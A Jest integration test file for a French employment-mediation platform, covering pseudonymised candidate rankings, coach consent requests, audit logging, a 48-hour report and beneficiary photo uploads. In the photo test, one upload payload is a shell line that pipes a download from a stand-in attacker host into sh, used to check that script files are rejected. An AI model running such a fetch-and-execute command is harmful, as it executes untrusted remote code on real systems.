import { existsSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { BeneficiaryAccess, PHOTO_MAX_BYTES } from '@passerelle/coaching';
import type { Action, Role } from '@passerelle/identity';
import { SyncOffersIndex } from '@passerelle/matching';
import {
  as as asUser,
  createTestContext,
  diagnosedPerson,
  pngImage,
  publishedOffer,
  seedOrganisation,
  startApi,
  type RunningApi,
  type TestContext,
  type TestOrganisation,
  type TestUser,
} from '@passerelle/testing';

interface Candidate {
  ref: string;
  label: string;
  revealed: boolean;
  beneficiaryId: string | null;
  score: number;
  offersProposed: number;
  ownPortfolio: boolean;
  request: { id: string; status: string } | null;
}

interface RequestView {
  id: string;
  status: string;
  beneficiaryId: string | null;
  label: string;
  introductionId: string | null;
}

describe('IOD mediation: candidates for an offer, requests to coaches, the 48-hour report, card photos', () => {
  let context: TestContext;
  let api: RunningApi;
  let org: TestOrganisation;
  let db: DataSource;
  let employerId: string;
  let bakeryOffer: string;
  let shopOffer: string;
  const people: Record<string, string> = {};

  const as = (user: TestUser) => asUser(api, user);

  const person = (
    firstName: string,
    diagnostic: { romeCode: string; contractTypes: string[]; maxDistanceKm?: number },
  ): Promise<string> => diagnosedPerson(api.url, org.users.coachLille, firstName, diagnostic);

  const capture = (title: string, romeCode: string): Promise<string> =>
    publishedOffer(api.url, org.users.staffNord, employerId, title, romeCode);

  const candidates = async (user: TestUser, offerId: string): Promise<Candidate[]> =>
    ((await as(user).get(`/offers/${offerId}/candidates`).expect(200)).body as { items: Candidate[] }).items;

  beforeAll(async () => {
    context = await createTestContext({ referential: true });
    api = await startApi(context.config);
    org = await seedOrganisation(api);
    db = api.app.get(DataSource);
    const employer = await as(org.users.staffNord)
      .post('/employers', { name: 'Boulangerie Paul', commune: { inseeCode: '59350' } })
      .expect(201);
    employerId = (employer.body as { id: string }).id;
    bakeryOffer = await capture('Vendeur en boulangerie', 'D1106');
    shopOffer = await capture('Employé de libre-service', 'D1507');
    people.baker = await person('Boulangere', { romeCode: 'D1106', contractTypes: ['cdi'] });
    people.cashier = await person('Caissiere', { romeCode: 'D1505', contractTypes: ['cdi', 'cdd'] });
    // Only interim: the CDI offers are outside this person's constraints.
    people.interim = await person('Interimaire', { romeCode: 'D1106', contractTypes: ['interim'] });
    const sync = api.app.get(SyncOffersIndex);
    await sync.prepare();
    await sync.execute();
  });

  afterAll(async () => {
    await api?.close();
    await context?.cleanup();
  });

  describe('candidates for an offer', () => {
    it('ranks the structure’s people by the matcher, pseudonymised for staff, with each score equal to the person’s own matches', async () => {
      const response = await as(org.users.staffNord).get(`/offers/${bakeryOffer}/candidates`).expect(200);
      const items = (response.body as { items: Candidate[] }).items;
      expect(items).toHaveLength(2); // the interim-only person is left out by their constraints
      expect(items[0].score).toBeGreaterThanOrEqual(items[1].score);
      for (const item of items) {
        expect(item).toMatchObject({ revealed: false, beneficiaryId: null, ownPortfolio: false });
        expect(item.label).toMatch(/^Candidat·e [A-Z0-9_-]{6}$/);
      }
      for (const secret of ['Secretnom', 'Boulangere', 'Caissiere', people.baker, people.cashier])
        expect(JSON.stringify(response.body)).not.toContain(secret);

      // The coach sees the same list with their own people named, and the same scores as their matches.
      const own = await candidates(org.users.coachLille, bakeryOffer);
      expect(own.map((item) => item.score)).toEqual(items.map((item) => item.score));
      expect(own.map((item) => item.ref)).toEqual(items.map((item) => item.ref));
      const baker = own.find((item) => item.beneficiaryId === people.baker)!;
      expect(baker).toMatchObject({ revealed: true, ownPortfolio: true, label: 'Boulangere S.' });
      const matches = await as(org.users.coachLille).get(`/beneficiaries/${people.baker}/matches?limit=50`).expect(200);
      const sameOffer = (matches.body as { items: Array<{ id: string; score: number }> }).items.find(
        (item) => item.id === bakeryOffer,
      );
      expect(sameOffer?.score).toBe(baker.score);
      expect(own[0].beneficiaryId).toBe(people.baker); // held the very occupation: first
    });

    it('follows an edited diagnostic on the next list: the profiles kept between calls are never stale', async () => {
      const before = await candidates(org.users.coachLille, bakeryOffer);
      expect(before.map((item) => item.beneficiaryId)).not.toContain(people.interim);
      const diagnostic = {
        experiences: [{ romeCode: 'D1106', months: 30 }],
        skills: [],
        desiredOccupations: ['D1106'],
        drivingLicence: false,
        vehicle: false,
        maxDistanceKm: 20,
        workingTime: 'any',
        constraints: [],
        availabilityDate: null,
        languages: [],
      };
      // The interim-only person now accepts a CDI: they are listed at once.
      await as(org.users.coachLille)
        .put(`/beneficiaries/${people.interim}/diagnostic`, { ...diagnostic, contractTypes: ['interim', 'cdi'] })
        .expect(200);
      const after = await candidates(org.users.coachLille, bakeryOffer);
      expect(after.map((item) => item.beneficiaryId)).toContain(people.interim);
      // And back: left out again.
      await as(org.users.coachLille)
        .put(`/beneficiaries/${people.interim}/diagnostic`, { ...diagnostic, contractTypes: ['interim'] })
        .expect(200);
      const again = await candidates(org.users.coachLille, bakeryOffer);
      expect(again.map((item) => item.beneficiaryId)).toEqual(before.map((item) => item.beneficiaryId));
    });

    it('gives each person a different reference for each offer, and another département nobody', async () => {
      const bakery = await candidates(org.users.staffNord, bakeryOffer);
      const shop = await candidates(org.users.staffNord, shopOffer);
      expect(shop.length).toBeGreaterThan(0);
      const refs = new Set(bakery.map((item) => item.ref));
      expect(shop.some((item) => refs.has(item.ref))).toBe(false);
      expect(await candidates(org.users.managerBasRhin, bakeryOffer)).toEqual([]);
      await as(org.users.staffNord).get('/offers/00000000-0000-4000-8000-000000000000/candidates').expect(404);
    });

    it('reaches, with the scope that finds the structures inside the pool’s query, exactly the people the listed structures reach', async () => {
      const access = api.app.get(BeneficiaryAccess);
      const reached = async (sql: string, params: unknown[]): Promise<string[]> =>
        (
          await db.query<Array<{ id: string }>>(`SELECT b.id FROM beneficiary b WHERE ${sql} ORDER BY b.id`, params)
        ).map((row) => row.id);
      const actors: Array<[TestUser, Role]> = [
        [org.users.staffNord, 'platform_staff'],
        [org.users.coachLille, 'coach'],
        [org.users.coachNord, 'coach'],
        [org.users.managerNord, 'manager'],
        [org.users.managerBasRhin, 'manager'],
      ];
      const counts: number[] = [];
      for (const [user, role] of actors)
        for (const action of ['candidates.search', 'beneficiaries.read'] as Action[]) {
          const actor = { userId: user.id, structureId: user.structureId, roles: [role] };
          const listed = await access.scope(actor, action, 1);
          const inQuery = access.scopeInQuery(actor, action, 1);
          const expected = await reached(listed.sql, listed.params);
          expect(await reached(inQuery.sql, inQuery.params)).toEqual(expected);
          counts.push(expected.length);
        }
      // The Nord's tree holds the Lille people; the Bas-Rhin reaches none of them.
      expect(counts[0]).toBeGreaterThanOrEqual(3);
      expect(counts[8]).toBe(0);
    });

    it('records each person listed in their own access log, the list’s rows sealed together as one run of the chain', async () => {
      const [{ mark }] = await db.query<Array<{ mark: string }>>(
        'SELECT coalesce(max(id), 0)::text AS mark FROM audit_event',
      );
      const listed = await candidates(org.users.coachLille, bakeryOffer);
      expect(listed.length).toBeGreaterThan(1);
      const rows = await db.query<Array<{ subject_id: string; chain_seq: string | null }>>(
        `SELECT subject_id, chain_seq::text FROM audit_event
         WHERE id > $1 AND details->>'part' = 'candidates' AND details->>'offerId' = $2 ORDER BY id`,
        [mark, bakeryOffer],
      );
      // One row per person, in the list's order, sealed at the commit with consecutive sequence numbers.
      expect(rows.map((row) => row.subject_id)).toEqual(listed.map((item) => item.beneficiaryId));
      const seqs = rows.map((row) => Number(row.chain_seq));
      expect(seqs).toEqual(seqs.map((_, i) => seqs[0] + i));
      for (const item of listed) {
        const exported = await as(org.users.coachLille).get(`/beneficiaries/${item.beneficiaryId}/export`).expect(200);
        const log = (exported.body as { accessLog: Array<{ action: string; details: Record<string, unknown> }> })
          .accessLog;
        expect(log).toContainEqual(
          expect.objectContaining({ action: 'read', details: { part: 'candidates', offerId: bakeryOffer } }),
        );
      }
    });

    it('lists and audits no one for an offer closed since it was indexed, though the people are read beside the check', async () => {
      const closing = await capture('Vendeuse en boulangerie', 'D1106');
      await api.app.get(SyncOffersIndex).execute();
      // In the index and in reach of the baker: without the check, she would be ranked and audited.
      expect((await candidates(org.users.staffNord, closing)).length).toBeGreaterThan(0);
      const audited = async (): Promise<number> =>
        (
          await db.query<Array<{ n: number }>>(
            `SELECT count(*)::int AS n FROM audit_event WHERE details->>'offerId' = $1 AND details->>'part' = 'candidates'`,
            [closing],
          )
        )[0].n;
      const before = await audited();
      expect(before).toBeGreaterThan(0);
      await as(org.users.staffNord).post(`/offers/${closing}/close`, { reason: 'manual' }).expect(200);
      // Not synced: the index still holds the offer, only the database says it is closed.
      const refused = await as(org.users.staffNord).get(`/offers/${closing}/candidates`).expect(422);
      expect((refused.body as { code: string }).code).toBe('offer.closed');
      expect(await audited()).toBe(before);
    });

    it('asks the coach, who agrees: the offer is proposed, an introduction opens and the person is named to the mediator', async () => {
      const staffList = await candidates(org.users.staffNord, bakeryOffer);
      const coachList = await candidates(org.users.coachLille, bakeryOffer);
      const ref = coachList.find((item) => item.beneficiaryId === people.baker)!.ref;
      const before = staffList.find((item) => item.ref === ref)!.offersProposed;

      const asked = await as(org.users.staffNord)
        .post(`/offers/${bakeryOffer}/candidates/${ref}/requests`, { message: 'Employeur prêt à recevoir jeudi' })
        .expect(201);
      const pending = asked.body as RequestView;
      expect(pending).toMatchObject({ status: 'pending', beneficiaryId: null });
      expect(pending.label).toMatch(/^Candidat·e /);
      await as(org.users.staffNord).post(`/offers/${bakeryOffer}/candidates/${ref}/requests`).expect(409);
      await as(org.users.staffNord).post(`/offers/${bakeryOffer}/candidates/AAAAAAAAAAAAAAAA/requests`).expect(404);

      const notices = await as(org.users.coachLille).get('/notifications').expect(200);
      expect(
        (notices.body as { items: Array<{ kind: string; subjectId: string }> }).items.some(
          (item) => item.kind === 'candidate_request' && item.subjectId === pending.id,
        ),
      ).toBe(true);
      const inbox = await as(org.users.coachLille).get('/candidate-requests?status=pending').expect(200);
      expect((inbox.body as { items: RequestView[] }).items).toEqual([
        expect.objectContaining({ id: pending.id, beneficiaryId: people.baker, label: 'Boulangere S.' }),
      ]);

      // Only the referent coach decides; declining needs a reason.
      await as(org.users.coachNord).post(`/candidate-requests/${pending.id}/decision`, { agree: true }).expect(404);
      const unexplained = await as(org.users.coachLille)
        .post(`/candidate-requests/${pending.id}/decision`, { agree: false })
        .expect(422);
      expect(unexplained.body).toMatchObject({ code: 'candidate.reason_required' });
      const agreed = await as(org.users.coachLille)
        .post(`/candidate-requests/${pending.id}/decision`, { agree: true })
        .expect(200);
      expect(agreed.body).toMatchObject({ status: 'agreed', beneficiaryId: people.baker });
      const introductionId = (agreed.body as RequestView).introductionId;
      expect(introductionId).toEqual(expect.any(String));
      await as(org.users.coachLille).post(`/candidate-requests/${pending.id}/decision`, { agree: true }).expect(409);

      const introduction = await as(org.users.staffNord).get(`/introductions/${introductionId}`).expect(200);
      expect(introduction.body).toMatchObject({
        status: 'proposed',
        offerId: bakeryOffer,
        beneficiaryId: people.baker,
      });
      const after = (await candidates(org.users.staffNord, bakeryOffer)).find((item) => item.ref === ref)!;
      expect(after).toMatchObject({
        revealed: true,
        beneficiaryId: people.baker,
        label: 'Boulangere S.',
        offersProposed: before + 1,
        request: expect.objectContaining({ status: 'agreed' }) as unknown,
      });
      const mine = await as(org.users.staffNord).get('/candidate-requests').expect(200);
      expect((mine.body as { items: RequestView[] }).items[0]).toMatchObject({ id: pending.id, status: 'agreed' });
    });

    it('a declined request keeps the person pseudonymous and records the reason', async () => {
      const coachList = await candidates(org.users.coachLille, shopOffer);
      const ref = coachList.find((item) => item.beneficiaryId === people.cashier)!.ref;
      const asked = await as(org.users.staffNord).post(`/offers/${shopOffer}/candidates/${ref}/requests`).expect(201);
      const id = (asked.body as RequestView).id;
      await as(org.users.coachLille)
        .post(`/candidate-requests/${id}/decision`, { agree: false, reason: 'En formation jusqu’en janvier' })
        .expect(200);
      const staffView = (await candidates(org.users.staffNord, shopOffer)).find((item) => item.ref === ref)!;
      expect(staffView).toMatchObject({ revealed: false, beneficiaryId: null, request: { status: 'declined' } });
      const rows: unknown[] = await db.query(
        'SELECT 1 FROM offer_proposal WHERE beneficiary_id = $1 AND offer_id = $2',
        [people.cashier, shopOffer],
      );
      expect(rows).toHaveLength(0);
    });
  });

  describe('time to the first candidate', () => {
    it('reports each captured offer against the 48-hour target', async () => {
      // Capture times moved back: met (first candidate after 10 h), missed (after 60 h), overdue (none for 50 h).
      const met = await capture('Vendeuse met', 'D1106');
      const missed = await capture('Vendeuse missed', 'D1106');
      const overdue = await capture('Vendeuse overdue', 'D1106');
      const waiting = await capture('Vendeuse waiting', 'D1106');
      for (const [offerId, hours] of [
        [met, 10],
        [missed, 60],
      ] as const) {
        await as(org.users.coachLille).post(`/beneficiaries/${people.baker}/proposals`, { offerId }).expect(201);
        await db.query(`UPDATE offer SET first_seen_at = now() - make_interval(hours => $2) WHERE id = $1`, [
          offerId,
          hours,
        ]);
      }
      await db.query(`UPDATE offer SET first_seen_at = now() - interval '50 hours' WHERE id = $1`, [overdue]);

      const report = await as(org.users.staffNord).get('/mediation/captured-offers').expect(200);
      const body = report.body as {
        targetHours: number;
        summary: Record<string, number | null>;
        items: Array<{ offerId: string; state: string; hours: number; candidatesProposed: number }>;
      };
      const state = (offerId: string) => body.items.find((item) => item.offerId === offerId);
      expect(body.targetHours).toBe(48);
      expect(state(met)).toMatchObject({ state: 'met', candidatesProposed: 1 });
      expect(state(met)!.hours).toBeCloseTo(10, 0);
      expect(state(missed)).toMatchObject({ state: 'missed' });
      expect(state(missed)!.hours).toBeCloseTo(60, 0);
      expect(state(overdue)).toMatchObject({ state: 'overdue', candidatesProposed: 0 });
      expect(state(waiting)).toMatchObject({ state: 'waiting' });
      // The bakery offer got its candidate minutes after capture (the agreed request): met too.
      expect(state(bakeryOffer)).toMatchObject({ state: 'met' });
      expect(body.summary.overdue).toBe(1);
      expect(body.summary.offers).toBe(body.items.length);
      const backwards = await as(org.users.staffNord)
        .get('/mediation/captured-offers?from=2026-12-01&to=2026-11-01')
        .expect(422);
      expect(backwards.body).toMatchObject({ code: 'period.invalid', details: [{ field: 'from' }] });
      await as(org.users.managerBasRhin)
        .get('/mediation/captured-offers')
        .expect(200)
        .expect((response) => expect((response.body as { items: unknown[] }).items).toEqual([]));
    });
  });

  describe('photos', () => {
    const upload = (user: TestUser, id: string, data: Buffer, name: string, type = 'image/jpeg') =>
      request(api.url)
        .put(`/beneficiaries/${id}/photo`)
        .auth(user.accessToken, { type: 'bearer' })
        .attach('photo', data, { filename: name, contentType: type });

    it('needs the photo consent, refuses bad uploads with a clear reason, and keeps the image outside the database', async () => {
      const id = people.baker;
      const noConsent = await upload(org.users.coachLille, id, pngImage(200, 200), 'moi.png', 'image/png').expect(422);
      expect((noConsent.body as { code: string }).code).toBe('photo.no_consent');
      await as(org.users.coachLille).post(`/beneficiaries/${id}/consents`, { purpose: 'photo' }).expect(201);

      const huge = Buffer.alloc(50 * 1024 * 1024, 0xff);
      huge.set([0xff, 0xd8, 0xff, 0xe0]);
      const tooLarge = await upload(org.users.coachLille, id, huge, 'photo.jpg').expect(413);
      expect(tooLarge.body).toMatchObject({
        code: 'photo.too_large',
        details: [{ field: 'photo', reason: `the limit is ${PHOTO_MAX_BYTES / 1024 / 1024} MB` }],
      });
      const script = await upload(
        org.users.coachLille,
        id,
        Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'),
        'photo.jpg',
      ).expect(422);
      expect(script.body).toMatchObject({ code: 'photo.not_an_image' });
      expect((script.body as { message: string }).message).toContain('this file is a script');
      const gif = await upload(
        org.users.coachLille,
        id,
        Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00', 'latin1'),
        'a.jpg',
      );
      expect(gif.status).toBe(422);
      expect((gif.body as { message: string }).message).toContain('a GIF image');
      await request(api.url)
        .put(`/beneficiaries/${id}/photo`)
        .auth(org.users.coachLille.accessToken, { type: 'bearer' })
        .field('other', 'x')
        .expect(400);
      await upload(org.users.staffNord, id, pngImage(200, 200), 'moi.png', 'image/png').expect(403);

      const stored = await upload(
        org.users.coachLille,
        id,
        pngImage(200, 160, 'GPS position canary'),
        'moi.png',
        'image/png',
      ).expect(200);
      expect(stored.body).toMatchObject({ contentType: 'image/png', width: 200, height: 160 });
      const back = await as(org.users.coachLille).get(`/beneficiaries/${id}/photo`).buffer(true).expect(200);
      expect(back.headers['content-type']).toBe('image/png');
      expect((back.body as Buffer).toString('latin1')).not.toContain('canary');
      const files = readdirSync(path.join(context.config.dataDir, 'photos'));
      expect(files).toHaveLength(1);
      const columns: Array<{ data_type: string }> = await db.query(
        `SELECT data_type FROM information_schema.columns WHERE table_name = 'beneficiary_photo' AND data_type = 'bytea'`,
      );
      expect(columns).toEqual([]);

      // Replacing the photo leaves one file; revoking the consent deletes it.
      await upload(org.users.coachLille, id, pngImage(180, 180), 'autre.png', 'image/png').expect(200);
      const replaced = readdirSync(path.join(context.config.dataDir, 'photos'));
      expect(replaced).toHaveLength(1);
      expect(replaced[0]).not.toBe(files[0]);
      await as(org.users.coachLille).delete(`/beneficiaries/${id}/consents/photo`).expect(200);
      await as(org.users.coachLille).get(`/beneficiaries/${id}/photo`).expect(404);
      expect(existsSync(path.join(context.config.dataDir, 'photos', replaced[0]))).toBe(false);
    });
  });
});
